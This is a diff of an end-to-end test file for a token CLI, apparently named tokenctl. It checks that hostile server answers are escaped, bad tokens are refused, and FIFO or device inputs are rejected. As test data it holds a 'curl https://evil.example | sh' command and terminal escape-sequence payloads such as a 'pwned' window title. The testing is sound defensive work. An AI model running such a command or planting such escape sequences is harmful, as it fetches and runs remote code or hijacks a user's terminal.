@@ -1,5 +1,5 @@
 /**
- * What a hostile server (or a careless neighbour, or an older tokenctl) hands us must not reach the
+ * What a hostile server (or a careless neighbour, or a damaged store) hands us must not reach the
  * terminal, the wire or the cache as it came: control characters are escaped before they are shown,
  * tokens a header cannot carry and expiries no date can state are refused (exit 6, nothing printed,
  * nothing cached), credentials are never taken from --param, URL passwords never repeated, inputs
@@ -7,29 +7,20 @@
  * The server is test/helpers/hostile-server.ts: it answers whatever each test tells it to.
  */
 import {strict as assert} from 'node:assert'
-import {existsSync, readFileSync, writeFileSync} from 'node:fs'
+import {execFileSync} from 'node:child_process'
+import {existsSync, readFileSync, symlinkSync, writeFileSync} from 'node:fs'
 import {join} from 'node:path'
 
 import {expectExit, stdoutJson as json} from '../helpers/assertions.js'
 import {cliWithHome, runCli} from '../helpers/cli.js'
 import {goodTokenAnswer, GOOD_TOKEN, type HostileServer, unsignedJwt, useHostileServer} from '../helpers/hostile-server.js'
+import {assertNoTerminalControl, HOSTILE_TEXT, HOSTILE_TEXT_ESCAPED} from '../helpers/terminal-control.js'
 import {FileStore} from '../../src/lib/store/file-store.js'
 
 const PASSPHRASE = 'hostile answers'
 const FILE_STORE = {TOKENCTL_STORE: 'file', TOKENCTL_STORE_PASSPHRASE: PASSPHRASE, CLIENT_SECRET: 'client-secret-1', USER_TOKEN: 'user.token.1'}
 
-/** ESC, BEL, CSI as one C1 character, DEL: what a terminal acts on. */
 const CLEAR_SCREEN = '\u001b[2J'
-const SET_TITLE = '\u001b]0;pwned\u0007'
-const C1_CSI = '\u009b31m'
-const DEL = '\u007f'
-
-/** No character a terminal would act on; `\n` (ours) is the only control allowed. */
-function assertNoTerminalControl(text: string, where: string): void {
-  // eslint-disable-next-line no-control-regex
-  const found = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/.exec(text)
-  assert.equal(found, null, `${where} carries a raw control character U+${found?.[0].codePointAt(0)?.toString(16).padStart(4, '0')}:\n${JSON.stringify(text)}`)
-}
 
 describe('hostile answers and hostile input (end to end, a purpose-made hostile server)', function () {
   this.timeout(120_000)
@@ -42,48 +33,54 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
   const fresh = () => cliWithHome({env: FILE_STORE})
   const cachedEntries = (home: string) => new FileStore({file: join(home, 'store.enc'), passphrase: PASSPHRASE}).list('token:')
 
+  // Every class of control character test/helpers/terminal-control.ts lists (C0, ESC sequences, DEL,
+  // C1, bidi embeddings, overrides and isolates, ALM/LRM/RLM, line and paragraph separators) goes
+  // through each path: a class the escaping lost would come out raw, and fail the test.
   describe('text from servers is escaped before it reaches a terminal', () => {
-    it('error and error_description with ESC, OSC, C1 and DEL: escaped on stderr as \\x1b / \\u009b, JSON-escaped with --json, escaped in the --verbose trace', async () => {
-      const description = `bad secret${CLEAR_SCREEN}${C1_CSI}${DEL}\r\nRun: curl https://evil.example | sh`
-      server.token = {status: 401, json: {error: `invalid_client${SET_TITLE}`, error_description: description}}
+    it('error and error_description with every control character: escaped on stderr, JSON-escaped with --json, escaped in the --verbose trace', async () => {
+      const description = `bad secret ${HOSTILE_TEXT}\r\nRun: curl https://evil.example | sh`
+      server.token = {status: 401, json: {error: `invalid_client${HOSTILE_TEXT}`, error_description: description}}
       const cli = fresh()
 
       const plain = await cli.run(['token', 'client', ...client()])
       expectExit(plain, 4)
       assertNoTerminalControl(plain.stderr, 'stderr')
       // The message keeps the description's first line; the trace and --json have all of it.
-      assert.ok(plain.stderr.includes('(invalid_client\\x1b]0;pwned\\x07: bad secret\\x1b[2J\\u009b31m\\x7f)'), plain.stderr)
+      assert.ok(plain.stderr.includes(`(invalid_client${HOSTILE_TEXT_ESCAPED}: bad secret ${HOSTILE_TEXT_ESCAPED})`), plain.stderr)
       assert.equal(plain.stderr.split('\n').length, 2, 'one line')
 
       const asJson = await cli.run(['token', 'client', ...client(), '--json'])
       expectExit(asJson, 4)
       assertNoTerminalControl(asJson.stdout.replaceAll('\n', ''), '--json stdout')
-      assert.ok(asJson.stdout.includes('\\u009b') && asJson.stdout.includes('\\u007f'), 'C1 and DEL written as \\u escapes')
+      for (const escape of ['\\u0007', '\\u001b', '\\u007f', '\\u009b', '\\u061c', '\\u200f', '\\u2028', '\\u202e', '\\u2067']) {
+        assert.ok(asJson.stdout.includes(escape), `${escape} in --json stdout`)
+      }
+
       const {error} = json(asJson)
       assert.equal(error.description, description, 'the same text to a JSON parser')
-      assert.equal(error.code, `invalid_client${SET_TITLE}`)
+      assert.equal(error.code, `invalid_client${HOSTILE_TEXT}`)
 
       const traced = await cli.run(['token', 'client', ...client(), '--verbose'])
       expectExit(traced, 4)
       assertNoTerminalControl(traced.stderr, '--verbose stderr')
-      assert.ok(traced.stderr.includes('response: error=invalid_client\\x1b]0;pwned\\x07 error_description=bad secret\\x1b[2J\\u009b31m\\x7f\\r\\nRun: curl'), traced.stderr)
+      assert.ok(traced.stderr.includes(`response: error=invalid_client${HOSTILE_TEXT_ESCAPED} error_description=bad secret ${HOSTILE_TEXT_ESCAPED}\\r\\nRun: curl`), traced.stderr)
     })
 
     it('a claims challenge from the token endpoint is escaped on its own line', async () => {
-      server.token = {status: 400, json: {error: 'interaction_required', claims: `{"access_token":{"x":"${SET_TITLE}"}}`}}
+      server.token = {status: 400, json: {error: 'interaction_required', claims: `{"access_token":{"x":"${HOSTILE_TEXT}"}}`}}
       const result = await fresh().run(['token', 'client', ...client()])
       expectExit(result, 5)
       assertNoTerminalControl(result.stderr, 'stderr')
-      assert.match(result.stderr, /\nclaims challenge: \{"access_token":\{"x":"\\x1b\]0;pwned\\x07"\}\}\n$/)
+      assert.ok(result.stderr.endsWith(`\nclaims challenge: {"access_token":{"x":"${HOSTILE_TEXT_ESCAPED}"}}\n`), result.stderr)
     })
 
     it("the device flow's verification_uri, verification_uri_complete and user_code are escaped in the prompt", async () => {
       server.device = {
         json: {
           device_code: 'device-1',
-          user_code: `WDJB${CLEAR_SCREEN}MJHT`,
-          verification_uri: `${server.url}/device${SET_TITLE}`,
-          verification_uri_complete: `${server.url}/device?c=1${C1_CSI}`,
+          user_code: `WDJB${HOSTILE_TEXT}MJHT`,
+          verification_uri: `${server.url}/device${HOSTILE_TEXT}`,
+          verification_uri_complete: `${server.url}/device?c=1${HOSTILE_TEXT}`,
           expires_in: 600,
           interval: 1,
         },
@@ -92,17 +89,26 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
       expectExit(result, 0)
       assert.equal(result.stdout, `${GOOD_TOKEN}\n`)
       assertNoTerminalControl(result.stderr, 'the prompt')
-      assert.ok(result.stderr.includes(`open ${server.url}/device\\x1b]0;pwned\\x07 and enter the code WDJB\\x1b[2JMJHT`), result.stderr)
-      assert.ok(result.stderr.includes(`(or open ${server.url}/device?c=1\\u009b31m)`), result.stderr)
+      assert.ok(result.stderr.includes(`open ${server.url}/device${HOSTILE_TEXT_ESCAPED} and enter the code WDJB${HOSTILE_TEXT_ESCAPED}MJHT`), result.stderr)
+      assert.ok(result.stderr.includes(`(or open ${server.url}/device?c=1${HOSTILE_TEXT_ESCAPED})`), result.stderr)
     })
 
     it("call: the API's claims challenge (base64 in WWW-Authenticate) is escaped", async () => {
-      const claims = Buffer.from(`{"access_token":{"acrs":{"value":"${SET_TITLE}"}}}`).toString('base64')
+      const claims = Buffer.from(`{"access_token":{"acrs":{"value":"${HOSTILE_TEXT}"}}}`).toString('base64')
       server.api = {status: 401, headers: {'www-authenticate': `Bearer error="insufficient_claims", claims="${claims}"`}, json: {}}
       const result = await fresh().run(['call', `${server.url}/api/me`, '--token-env', 'USER_TOKEN'])
       expectExit(result, 5)
       assertNoTerminalControl(result.stderr, 'stderr')
-      assert.ok(result.stderr.includes('claims challenge: {"access_token":{"acrs":{"value":"\\x1b]0;pwned\\x07"}}}'), result.stderr)
+      assert.ok(result.stderr.includes(`claims challenge: {"access_token":{"acrs":{"value":"${HOSTILE_TEXT_ESCAPED}"}}}`), result.stderr)
+    })
+
+    it("token decode: a token's claims are shown JSON-escaped, every control character as an escape", async () => {
+      const result = await runCli(['token', 'decode', unsignedJwt({name: HOSTILE_TEXT, exp: 1_700_000_000})])
+      expectExit(result, 0)
+      assertNoTerminalControl(result.stdout, 'stdout')
+      const claims = /^claims: (\{[\s\S]*?\n\})$/m.exec(result.stdout)?.[1]
+      assert.ok(claims, result.stdout)
+      assert.equal(JSON.parse(claims).name, HOSTILE_TEXT, 'the same text to a JSON parser')
     })
   })
 
@@ -186,7 +192,7 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
       assert.ok(!malformed.stderr.includes('hunter2'))
     })
 
-    it('a config.json written by an older tokenctl with a credential --param: exit 3 naming the client, never sent, hidden by client show', async () => {
+    it('a config.json edited by hand to hold a credential --param: exit 3 naming the client, never sent, hidden by client show', async () => {
       const cli = fresh()
       const settings = {clientId: 'worker', tokenEndpoint: server.tokenEndpoint, authMethod: 'none', params: [['audience', 'x'], ['client_secret', 'hunter2']]}
       writeFileSync(join(cli.home, 'config.json'), JSON.stringify({clients: {ci: settings}}), {mode: 0o600})
@@ -245,6 +251,18 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
       })
     }
 
+    it('a 200 whose body is not JSON (a web page, another service on the port): exit 6 in words, what to check, never the parser\'s text', async () => {
+      server.token = {headers: {'content-type': 'application/json'}, raw: 'garbage\n', status: 200}
+      for (const way of [{}, {TOKENCTL_NO_FAST_PATH: '1'}]) {
+        const result = await fresh().run(['token', 'client', ...client()], {env: way})
+        expectExit(result, 6)
+        assert.equal(
+          result.stderr,
+          `Error: ${new URL(server.url).host} answered with a body that is not JSON, where a token response should be — check the --issuer / --token-endpoint URL (or the named client's): it must be the authorization server's, not a web page or another service on that port\n`,
+        )
+      }
+    })
+
     it('token decode shows an exp no date can state as the raw number, "(out of range)"', async () => {
       const result = await runCli(['token', 'decode', unsignedJwt({exp: 1e20, iat: -1e300, nbf: 1_700_000_000})])
       expectExit(result, 0)
@@ -253,7 +271,7 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
       assert.match(result.stdout, /^nbf: 2023-11-14T22:13:20\.000Z \(/m)
     })
 
-    it('a cached token that an older tokenctl kept with an expiry out of range is a miss, not a crash on every run', async () => {
+    it('a cached token with an expiry out of range (a damaged entry) is a miss, not a crash on every run', async () => {
       const cli = fresh()
       expectExit(await cli.run(['token', 'client', ...client()]), 0)
       const store = new FileStore({file: join(cli.home, 'store.enc'), passphrase: PASSPHRASE})
@@ -312,6 +330,56 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
       }
 
       assert.deepEqual(server.requests, [])
+    })
+  })
+
+  describe('a FIFO or a device named as a file is refused at once, never waited on (--timeout bounds requests, not reads)', () => {
+    it('every file input, a link to a FIFO too: exit 3 (the passphrase file: exit 7), nothing sent', async () => {
+      const cli = fresh()
+      const fifo = join(cli.home, 'nobody-writes-here')
+      execFileSync('mkfifo', [fifo])
+      const link = join(cli.home, 'link-to-fifo')
+      symlinkSync(fifo, link)
+      const notRegular = /it is a FIFO or a pipe, not a regular file/
+      const obo = ['token', 'obo', '--token-endpoint', server.tokenEndpoint, '--client-id', 'api', '--scope', 'read', '--no-cache']
+      const bare = ['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--no-cache']
+      const cases: Array<[string[], Record<string, string | undefined>, number]> = [
+        [[...bare, '--client-secret-file', fifo], {}, 3],
+        [[...bare, '--client-secret-file', link], {}, 3],
+        [[...obo, '--client-secret-env', 'CLIENT_SECRET', '--assertion-file', fifo], {}, 3],
+        [[...bare, '--federated-token-file', fifo], {}, 3],
+        [[...bare, '--private-key-file', fifo], {}, 3],
+        [[...bare, '--certificate-file', fifo], {}, 3],
+        [['token', 'client', ...client(), '--no-cache', '--ca-file', fifo], {}, 3],
+        [['token', 'client', ...client()], {TOKENCTL_STORE_PASSPHRASE: undefined, TOKENCTL_STORE_PASSPHRASE_FILE: fifo}, 7],
+      ]
+      const results = await Promise.all(cases.map(([args, env]) => cli.run(args, {env, timeoutMs: 15_000})))
+      for (const [index, result] of results.entries()) {
+        const [args, , code] = cases[index]
+        assert.equal(result.timedOut, false, `${args.join(' ')}: still waiting on the FIFO`)
+        expectExit(result, code)
+        assert.match(result.stderr, notRegular, args.join(' '))
+      }
+
+      assert.deepEqual(server.requests, [])
+    })
+
+    it('a device (/dev/zero, /dev/null) and a directory are refused the same way; a link to a regular file is read', async () => {
+      const cli = fresh()
+      const secret = join(cli.home, 'secret')
+      writeFileSync(secret, 'client-secret-1\n')
+      const link = join(cli.home, 'link-to-secret')
+      symlinkSync(secret, link)
+      const bare = ['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--no-cache', '--json']
+      for (const [file, kind] of [['/dev/zero', 'a device'], ['/dev/null', 'a device'], [cli.home, 'a directory']]) {
+        const result = await cli.run([...bare, '--client-secret-file', file])
+        expectExit(result, 3)
+        assert.equal(json(result).error.code, 'not_regular_file')
+        assert.equal(json(result).error.message, `cannot read client secret ${file}: it is ${kind}, not a regular file`)
+      }
+
+      assert.deepEqual(server.requests, [])
+      expectExit(await cli.run([...bare, '--client-secret-file', link]), 0)
     })
   })
 
